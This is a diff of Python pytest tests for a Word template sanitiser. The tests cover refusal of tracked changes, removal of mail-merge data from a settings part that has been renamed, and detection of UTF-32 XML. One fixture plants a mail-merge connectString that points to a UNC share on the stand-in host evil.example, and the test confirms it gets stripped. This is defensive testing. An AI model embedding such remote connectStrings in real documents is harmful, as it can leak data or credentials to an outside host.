@@ -1064,3 +1064,56 @@ def test_a_part_declaring_an_encoding_no_xml_is_written_in_is_refused(encoding: 
 
     with pytest.raises(UnreadableDocumentError, match="编码无法识别"):
         sanitize_template(_with_settings(declared), "编码.docx")
+
+
+@pytest.mark.parametrize(
+    ("attributes", "said"),
+    [
+        (" w:id='1' w:author='张三'", "张三 1 处"),
+        (' w:id="1" w:author = "张三"', "张三 1 处"),
+        (' w:id="1"', "（未署名） 1 处"),
+    ],
+    ids=["single-quotes", "spaced", "unsigned"],
+)
+def test_a_tracked_change_however_its_author_is_written_is_refused(
+    attributes: str, said: str
+) -> None:
+    body = f"<w:p><w:del{attributes}><w:r><w:delText>{{{{ 单位名称 }}}}</w:delText></w:r></w:del></w:p>"
+    with pytest.raises(InputError, match="未处理的修订") as caught:
+        sanitize_template(_template(body), "修订.docx")
+    assert said in str(caught.value)
+
+
+def test_a_part_named_like_relationships_outside_rels_is_cleaned_like_any_other() -> None:
+    """Word finds settings by its relationship: named word/settings.rels it is settings all
+    the same, and its mail merge data source goes."""
+    base = paragraphs_template("{{ 单位名称 }}")
+    old = parts_of(base)
+    merge = b'<w:mailMerge><w:connectString w:val="\\\\evil.example\\x.xlsx"/></w:mailMerge>'
+    settings = old["word/settings.xml"].replace(b"</w:settings>", merge + b"</w:settings>")
+    rels = old["word/_rels/document.xml.rels"].replace(
+        b'Target="settings.xml"', b'Target="settings.rels"'
+    )
+    types = old["[Content_Types].xml"].replace(
+        b'PartName="/word/settings.xml"', b'PartName="/word/settings.rels"'
+    )
+    template = with_parts(
+        base,
+        {
+            "word/settings.xml": None,
+            "word/settings.rels": settings,
+            "word/_rels/document.xml.rels": rels,
+            "[Content_Types].xml": types,
+        },
+    )
+    assert b"settings.rels" in parts_of(template)["word/_rels/document.xml.rels"]
+    clean = sanitize_template(template, "设置.docx")
+    assert b"evil.example" not in clean.parts["word/settings.rels"]
+
+
+def test_a_part_in_utf32_with_its_byte_order_mark_is_known_as_xml() -> None:
+    from docgen.ooxml.package import looks_xml
+
+    text = '<?xml version="1.0" encoding="UTF-32"?><w:settings/>'
+    assert looks_xml(b"\x00\x00\xfe\xff" + text.encode("utf-32-be"))
+    assert looks_xml(text.encode("utf-32"))  # the little-endian mark starts like UTF-16's
